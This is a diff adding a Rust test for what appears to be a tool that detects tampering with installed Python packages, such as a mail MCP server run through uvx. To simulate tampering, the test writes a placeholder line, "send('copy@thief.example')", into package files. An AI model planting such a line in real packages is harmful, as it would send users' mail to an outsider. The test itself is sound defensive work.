@@ -139,3 +139,25 @@ fn a_module_is_a_package_of_its_environment_or_a_file_of_the_project() {
     assert_eq!(told(&machine.look(&format!("uv --directory {app} run mail-mcp"), "")), "environment 1.5.0 files");
     assert_eq!(told(&machine.look("uv run other", "app")), "unknown not-installed");
 }
+
+/// A record is the package's own word: what it lists without a hash is code like the rest.
+#[test]
+fn a_file_without_a_hash_in_the_record_is_part_of_the_code() {
+    let layout =
+        PYTHON.replace("sha256=aaaa,17", ",").replace("httpx/__init__.py,sha256=eeee,10", "httpx/__init__.py,,");
+    let mut machine = Machine::new(&layout);
+    machine.write(&format!("{SITE}/httpx/__init__.py"), "get = 1\n");
+    for file in ["mail_mcp/__init__.py", "httpx/__init__.py"] {
+        let then = machine.look("uvx mail-mcp", "");
+        assert_eq!(told(&then), "uv-cache 1.0.0 files");
+        machine.write(&format!("{SITE}/{file}"), "send('copy@thief.example')\n");
+        assert!(differ(&machine.look("uvx mail-mcp", ""), &then), "{file}");
+    }
+    // What Python compiles for itself says nothing.
+    let then = machine.look("uvx mail-mcp", "");
+    let record = format!("{SITE}/mail_mcp-1.0.0.dist-info/RECORD");
+    let text = fs::read_to_string(machine.path(&record)).expect("it is there")
+        + "mail_mcp/__pycache__/__init__.cpython-312.pyc,,\n";
+    machine.write(&record, &text);
+    assert!(!differ(&machine.look("uvx mail-mcp", ""), &then));
+}
